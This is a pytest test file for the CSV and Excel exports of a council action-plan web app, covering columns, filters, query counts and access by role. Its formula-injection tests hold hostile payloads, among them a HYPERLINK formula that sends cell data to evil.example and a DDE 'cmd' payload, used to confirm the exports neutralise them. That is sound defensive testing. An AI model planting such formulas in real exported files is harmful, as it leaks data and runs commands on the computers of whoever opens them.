"""Exports of the action plan: CSV and Excel, filtered, safe to open, in constant queries."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.roles import Role
from actions.models import ActionPartner, StrategyAction, SubPoint
from actions.status import Status
from reports import exports
from tests.factories import (
    ActionPartnerFactory,
    CouncilActionFactory,
    CouncilInputFactory,
    PartnerFactory,
    ProgressUpdateFactory,
    StrategyActionFactory,
    ThemeFactory,
    UserFactory,
)
from tests.helpers import content, csv_rows, post_update, queries_for, record_input

pytestmark = pytest.mark.django_db


def references(cell: str) -> list[str]:
    """The references of a "Proposed council actions" cell: one "T2.1a: words" a line."""
    return [line.split(":", 1)[0] for line in cell.split("\n")]


CSV_HEADER = [
    "Strategy",
    "Theme",
    "Reference",
    "Strategy action",
    "Sub-points",
    "Status",
    "Percent complete",
    "Lead partners",
    "Supporting partners",
    "Original target date",
    "Revised target date",
    "Overdue",
    "Last update date",
    "Last update by",
    "Last update organisation",
    "Latest narrative",
    "Next steps",
    "The Forum's view",
    "The council's view",
    "Views differ",
    "Proposed council actions",
    # The keys an import matches rows by (issue 14).
    "Strategy key",
    "Theme number",
    "Position",
]
COUNCIL_HEADER = [
    "Strategy action reference",
    "Reference",
    "Proposed council action",
    "Responsible unit",
    "Lead officer",
    "Decision",
    "Decided by",
    "Decided on",
    "Decision reason",
    "Status",
    "Percent complete",
    "Original target date",
    "Revised target date",
    "Last input date",
    "Last input by",
    "Latest commentary",
    "Resources",
    "Added after the report",
    "Strategy key",
    "Theme number",
    "Position",
    "Responsible unit key",
]
# The sheets of the workbook: the Cabinet readers' three, then those an import reads (issue 14).
SHEETS = [
    "Strategy actions",
    "Proposed council actions",
    "Indicators",
    "Strategies",
    "Themes",
    "Sub-points",
    "Partners",
    "Action partners",
    "Milestones",
    "Indicator definitions",
    "Indicator targets",
]
T1_1_TEXT = (
    "Organise a joint media campaign between partners to raise awareness of the new"
    " Community Right to Challenge, Build, Bid and Buy and similar schemes as they"
    " become available."
)


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def workbook(response):
    return openpyxl.load_workbook(io.BytesIO(content(response)))


def sheet_rows(sheet) -> list[dict]:
    header, *body = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in body]


def move_to_at_risk(reference: str, narrative: str):
    action = StrategyAction.objects.get(reference=reference)
    author = UserFactory(
        role=Role.FORUM_COORDINATOR,
        full_name="Priya Shah",
        organisation=PartnerFactory(name="Harrow Mencap"),
    )
    post_update(
        action, author, Status.AT_RISK, 40, narrative, next_steps="Meet the partners again in May."
    )
    return action


# --- CSV ------------------------------------------------------------------------------


def test_csv_has_one_row_per_strategy_action_of_the_report(report, user_client):
    response = user_client.get(reverse("export_csv"))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="action-plan-{today}.csv"'
    body = content(response)
    assert body.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel looks for
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == CSV_HEADER
    actions = as_dicts(rows)
    assert [a["Reference"] for a in actions] == ["T1.1", "T2.1", "T2.2", "T2.3"]

    t1_1, t2_1 = actions[0], actions[1]
    assert t1_1["Strategy"] == "Third Sector Strategy (2013)"
    assert t1_1["Theme"] == "Theme 1: Public Engagement"
    assert t1_1["Strategy action"] == T1_1_TEXT
    assert t1_1["Status"] == "Not started"
    assert t1_1["Percent complete"] == "0"
    assert t1_1["Lead partners"] == "Third Sector Forum"
    assert t1_1["Supporting partners"] == ""
    assert t1_1["Overdue"] == "No"
    assert t1_1["Last update date"] == ""
    assert t1_1["The Forum's view"] == "Not started"
    assert t1_1["The council's view"] == "Not started"
    assert t1_1["Views differ"] == "No"
    assert t1_1["Proposed council actions"].startswith("T1.1a: ")
    assert references(t2_1["Proposed council actions"]) == ["T2.1a", "T2.1b", "T2.1c"]
    # The words of the proposed council actions and T2.1's sub-points, as the report has them.
    assert all(len(line) > len("T2.1a: ") for line in t2_1["Proposed council actions"].split("\n"))
    assert t2_1["Sub-points"].startswith("1. ")
    assert (
        len(t2_1["Sub-points"].split("\n"))
        == SubPoint.objects.filter(strategy_action__reference="T2.1").count()
    )


def test_csv_applies_the_plan_filters(report, user_client):
    move_to_at_risk("T2.2", "Two placements fell through over the winter.")

    response = user_client.get(reverse("export_csv"), {"status": "at_risk"})

    [row] = as_dicts(csv_rows(response))
    assert row["Reference"] == "T2.2"
    assert row["Status"] == "At risk"
    assert row["Percent complete"] == "40"
    assert row["Latest narrative"] == "Two placements fell through over the winter."
    assert row["Next steps"] == "Meet the partners again in May."
    assert row["Last update by"] == "Priya Shah"
    assert row["Last update organisation"] == "Harrow Mencap"
    assert row["Last update date"] == timezone.localdate().isoformat()
    assert row["The Forum's view"] == "At risk"


def test_csv_leaves_out_superseded_strategies_unless_chosen(user_client):
    current = StrategyActionFactory(text="A current action")
    old = StrategyActionFactory(text="An old action")
    old.theme.strategy.status = "superseded"
    old.theme.strategy.save()

    rows = as_dicts(csv_rows(user_client.get(reverse("export_csv"))))
    assert [r["Strategy action"] for r in rows] == [current.text]

    chosen = {"strategy": old.theme.strategy.pk}
    rows = as_dicts(csv_rows(user_client.get(reverse("export_csv"), chosen)))
    assert [r["Strategy action"] for r in rows] == [old.text]


def test_csv_dates_partners_and_overdue(user_client):
    action = StrategyActionFactory(
        original_target_date=datetime.date(2020, 1, 31),
        revised_target_date=datetime.date(2021, 6, 30),
        status=Status.ON_TRACK,
    )
    ActionPartnerFactory(strategy_action=action, partner=PartnerFactory(name="Zeta Trust"))
    ActionPartnerFactory(strategy_action=action, partner=PartnerFactory(name="Alpha Aid"))
    ActionPartnerFactory(
        strategy_action=action,
        partner=PartnerFactory(name="Beta Care"),
        role=ActionPartner.Role.SUPPORTING,
    )

    [row] = as_dicts(csv_rows(user_client.get(reverse("export_csv"))))

    assert row["Original target date"] == "2020-01-31"
    assert row["Revised target date"] == "2021-06-30"
    assert row["Overdue"] == "Yes"
    assert row["Lead partners"] == "Alpha Aid; Zeta Trust"
    assert row["Supporting partners"] == "Beta Care"
    assert row["The council's view"] == ""  # no proposed council actions
    assert row["Proposed council actions"] == ""


def test_csv_flags_views_that_differ(user_client):
    action = StrategyActionFactory(status=Status.OFF_TRACK)
    CouncilActionFactory(strategy_action=action, status=Status.COMPLETED, reference="X1a")

    [row] = as_dicts(csv_rows(user_client.get(reverse("export_csv"))))

    assert row["The Forum's view"] == "Off track"
    assert row["The council's view"] == "Completed"
    assert row["Views differ"] == "Yes"


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_neutralises_formulas_typed_by_people(report, user_client, typed):
    move_to_at_risk("T1.1", typed)

    [row] = as_dicts(csv_rows(user_client.get(reverse("export_csv"), {"q": "T1.1"})))

    assert row["Latest narrative"] == "'" + typed


def test_csv_leaves_ordinary_text_alone(report, user_client):
    move_to_at_risk("T1.1", "Going well = on track; 3 events held.")

    [row] = as_dicts(csv_rows(user_client.get(reverse("export_csv"), {"q": "T1.1"})))

    assert row["Latest narrative"] == "Going well = on track; 3 events held."


def make_actions(count: int) -> None:
    """Strategy actions with everything the export reads: partners, updates, council input."""
    theme = ThemeFactory()
    author = UserFactory()
    for _ in range(count):
        action = StrategyActionFactory(theme=theme)
        ActionPartnerFactory(strategy_action=action)
        ActionPartnerFactory(strategy_action=action, role=ActionPartner.Role.SUPPORTING)
        ProgressUpdateFactory(strategy_action=action, author=author)
        council_action = CouncilActionFactory(strategy_action=action, lead_officer=author)
        record_input(council_action, author, Status.ON_TRACK, 10, "Fine.")


def count_queries(client, url_name: str, **params) -> tuple[int, int]:
    """All the queries of a whole export, and those that read the action plan's tables."""
    queries = queries_for(client, reverse(url_name), params)
    plan = [q for q in queries if '"actions_' in q["sql"]]
    return len(queries), len(plan)


@pytest.mark.parametrize("url_name", ["export_csv", "export_xlsx"])
def test_queries_do_not_grow_with_the_plan(user_client, url_name):
    make_actions(10)
    ten = count_queries(user_client, url_name)
    make_actions(50)
    sixty = count_queries(user_client, url_name)

    assert ten == sixty
    # The count that decides between the request and a background job, then one query per
    # sheet: the strategy actions (partners and council actions in per-row subqueries); the
    # workbook's second, its proposed council actions; and the sheets an import reads (issue
    # 14), one query each that reads the plan's actions (strategies, themes, sub-points,
    # action partners, milestones).
    assert sixty[1] == 1 + (1 if url_name == "export_csv" else 2 + 5)


def test_csv_is_one_query_however_many_chunks(user_client, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 5)
    make_actions(5)
    _, one_chunk = count_queries(user_client, "export_csv")
    make_actions(20)
    _, five_chunks = count_queries(user_client, "export_csv")

    # The count (in the request or in the background?), then one query, fetched a chunk at
    # a time: partners and council actions come from per-row subqueries, not a prefetch per
    # chunk.
    assert one_chunk == five_chunks == 2
    rows = as_dicts(csv_rows(user_client.get(reverse("export_csv"))))
    assert len(rows) == 25
    assert all(r["Lead partners"] and r["Latest narrative"] for r in rows)


# --- Excel ----------------------------------------------------------------------------


def test_workbook_has_both_sheets_of_the_report(report, user_client):
    response = user_client.get(reverse("export_xlsx"))

    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="action-plan-{today}.xlsx"'
    book = workbook(response)
    assert book.sheetnames == SHEETS
    actions_sheet, council_sheet = book["Strategy actions"], book["Proposed council actions"]
    assert [c.value for c in actions_sheet[1]] == CSV_HEADER
    assert [c.value for c in council_sheet[1]] == COUNCIL_HEADER
    assert actions_sheet["A1"].font.b

    actions = sheet_rows(actions_sheet)
    assert [a["Reference"] for a in actions] == ["T1.1", "T2.1", "T2.2", "T2.3"]
    assert actions[0]["Strategy action"] == T1_1_TEXT
    assert actions[0]["Lead partners"] == "Third Sector Forum"
    assert actions[0]["Percent complete"] == 0
    assert references(actions[1]["Proposed council actions"]) == ["T2.1a", "T2.1b", "T2.1c"]
    assert actions[1]["Sub-points"].startswith("1. ")

    council = sheet_rows(council_sheet)
    assert [c["Reference"] for c in council] == [
        "T1.1a",
        "T2.1a",
        "T2.1b",
        "T2.1c",
        "T2.2a",
        "T2.3a",
    ]
    t2_1b = council[2]
    assert t2_1b["Strategy action reference"] == "T2.1"
    assert t2_1b["Proposed council action"].startswith(
        "A review of the implementation of the Council's Sustainable Procurement"
    )
    assert t2_1b["Responsible unit"] == "Community Health and Wellbeing"
    assert t2_1b["Decision"] == "Endorsed"
    assert t2_1b["Decided by"] == "Cabinet"
    assert t2_1b["Decision reason"] == (
        "To demonstrate the Council's commitment and support for the strategy."
    )
    assert t2_1b["Status"] == "Not started"
    assert t2_1b["Added after the report"] == "No"

    decided_on = council_sheet.cell(row=4, column=COUNCIL_HEADER.index("Decided on") + 1)
    assert decided_on.is_date
    assert decided_on.value == datetime.datetime(2013, 3, 14)


def test_workbook_applies_the_filters_to_both_sheets(report, user_client):
    move_to_at_risk("T2.1", "Commissioners have not yet replied.")

    book = workbook(user_client.get(reverse("export_xlsx"), {"status": "at_risk"}))

    [action] = sheet_rows(book["Strategy actions"])
    assert action["Reference"] == "T2.1"
    assert action["Latest narrative"] == "Commissioners have not yet replied."
    assert action["Last update by"] == "Priya Shah"
    assert isinstance(action["Last update date"], datetime.datetime)
    council = sheet_rows(book["Proposed council actions"])
    assert [c["Reference"] for c in council] == ["T2.1a", "T2.1b", "T2.1c"]


def test_workbook_shows_council_input_and_real_dates(user_client):
    action = StrategyActionFactory(original_target_date=datetime.date(2030, 3, 31))
    officer = UserFactory(full_name="Sam Officer")
    council_action = CouncilActionFactory(
        strategy_action=action,
        reference="X1a",
        lead_officer=officer,
        added_by=officer,
        revised_target_date=datetime.date(2031, 1, 15),
    )
    CouncilInputFactory(
        council_action=council_action,
        author=officer,
        status=Status.ON_TRACK,
        percent_complete=55,
        commentary="=1+2 is what the budget line says",
        resources="Within existing resources",
    )

    book = workbook(user_client.get(reverse("export_xlsx")))

    [row] = sheet_rows(book["Strategy actions"])
    assert row["Original target date"] == datetime.datetime(2030, 3, 31)
    [council] = sheet_rows(book["Proposed council actions"])
    assert council["Lead officer"] == "Sam Officer"
    assert council["Last input by"] == "Sam Officer"
    assert council["Latest commentary"] == "'=1+2 is what the budget line says"
    assert council["Resources"] == "Within existing resources"
    assert council["Percent complete"] == 55  # moved by the input, as the service moves it
    assert council["Revised target date"] == datetime.datetime(2031, 1, 15)
    assert isinstance(council["Last input date"], datetime.datetime)
    assert council["Added after the report"] == "Yes"
    assert council["Decision"] is None  # an empty cell: no decision yet


def test_workbook_neutralises_formulas_and_drops_control_characters(report, user_client):
    move_to_at_risk("T1.1", '=HYPERLINK("http://evil.example","Click")')
    t2_2 = StrategyAction.objects.get(reference="T2.2")
    ProgressUpdateFactory(strategy_action=t2_2)
    ProgressUpdateFactory(strategy_action=t2_2, narrative="Pasted from Word\x0bwith a vertical tab")

    book = workbook(user_client.get(reverse("export_xlsx")))

    sheet = book["Strategy actions"]
    column = CSV_HEADER.index("Latest narrative") + 1
    t1_1 = sheet.cell(row=2, column=column)
    assert t1_1.value == '\'=HYPERLINK("http://evil.example","Click")'
    assert t1_1.data_type == "s"  # text, not a formula
    assert sheet.cell(row=4, column=column).value == "Pasted from Wordwith a vertical tab"


# --- Who may export -------------------------------------------------------------------


@pytest.mark.parametrize("url_name", ["export_csv", "export_xlsx"])
def test_anonymous_visitors_are_sent_to_sign_in(client, url_name):
    response = client.get(reverse(url_name))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("url_name", ["export_csv", "export_xlsx"])
def test_people_without_a_role_may_not_export(client, url_name):
    client.force_login(UserFactory())
    assert client.get(reverse(url_name)).status_code == 403


@pytest.mark.parametrize("url_name", ["export_csv", "export_xlsx"])
def test_a_cabinet_member_may_export(report, client, url_name):
    client.force_login(UserFactory(role=Role.CABINET_MEMBER))
    response = client.get(reverse(url_name))
    assert response.status_code == 200
    if url_name == "export_csv":
        references = [row["Reference"] for row in as_dicts(csv_rows(response))]
    else:
        references = [
            row["Reference"] for row in sheet_rows(workbook(response)["Strategy actions"])
        ]
    assert references == ["T1.1", "T2.1", "T2.2", "T2.3"]


@pytest.mark.parametrize("persona", ["forum_member", "coordinator", "officer", "cabinet", "admin"])
def test_every_role_may_export(world, client, persona):
    client.force_login(world.personas[persona])
    response = client.get(reverse("export_csv"))
    assert response.status_code == 200
    rows = csv_rows(response)
    assert rows[0] == CSV_HEADER
    assert [row["Reference"] for row in as_dicts(rows)] == [world.action.reference]


@pytest.mark.parametrize("url_name", ["export_csv", "export_xlsx"])
def test_exports_refuse_posts(user_client, url_name):
    assert user_client.post(reverse(url_name)).status_code == 405


def test_a_proposed_council_action_written_over_several_lines_stays_together(user_client):
    action = StrategyActionFactory(reference="T1.1")
    for reference, text in (
        ("T1.1b", "Second; with a semicolon"),
        ("T1.1a", "First line\nthen more"),
    ):
        CouncilActionFactory(strategy_action=action, reference=reference, text=text)

    rows = as_dicts(csv_rows(user_client.get(reverse("export_csv"))))

    assert rows[0]["Proposed council actions"] == (
        "T1.1a: First line\nthen more\nT1.1b: Second; with a semicolon"
    )
